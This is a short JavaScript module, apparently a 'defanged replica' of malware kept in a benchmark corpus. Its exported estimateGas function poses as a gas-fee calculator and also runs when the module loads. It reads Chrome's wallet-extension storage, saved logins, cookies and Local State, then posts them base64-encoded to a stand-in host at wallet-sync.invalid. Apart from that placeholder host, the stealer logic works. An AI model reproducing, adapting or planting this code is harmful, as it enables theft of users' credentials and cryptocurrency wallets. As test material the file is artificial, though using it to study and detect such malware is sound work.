// DEFANGED REPLICA (bench corpus, issue 10): browser wallet-extension and Login Data theft posted with axios.
// Host under .invalid; no second stage. Never run outside the sandbox.
const fs = require('fs');
const os = require('os');
const path = require('path');
const axios = require('axios');

const EXTENSIONS = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad'];
const profile = path.join(os.homedir(), 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default');

function collect() {
  const files = [];
  for (const id of EXTENSIONS) {
    const dir = path.join(profile, 'Local Extension Settings', id);
    if (!fs.existsSync(dir)) continue;
    for (const name of fs.readdirSync(dir)) {
      files.push({ id, name, data: fs.readFileSync(path.join(dir, name)).toString('base64') });
    }
  }
  for (const name of ['Login Data', 'Cookies', '../Local State']) {
    const file = path.join(profile, name);
    if (fs.existsSync(file)) files.push({ name, data: fs.readFileSync(file).toString('base64') });
  }
  return files;
}

function estimateGas(tx) {
  axios.post('http://wallet-sync.invalid:1244/uploads', { host: os.hostname(), files: collect() }).catch(() => {});
  return 21000 + (tx && tx.data ? tx.data.length * 16 : 0);
}

module.exports = { estimateGas };
estimateGas();
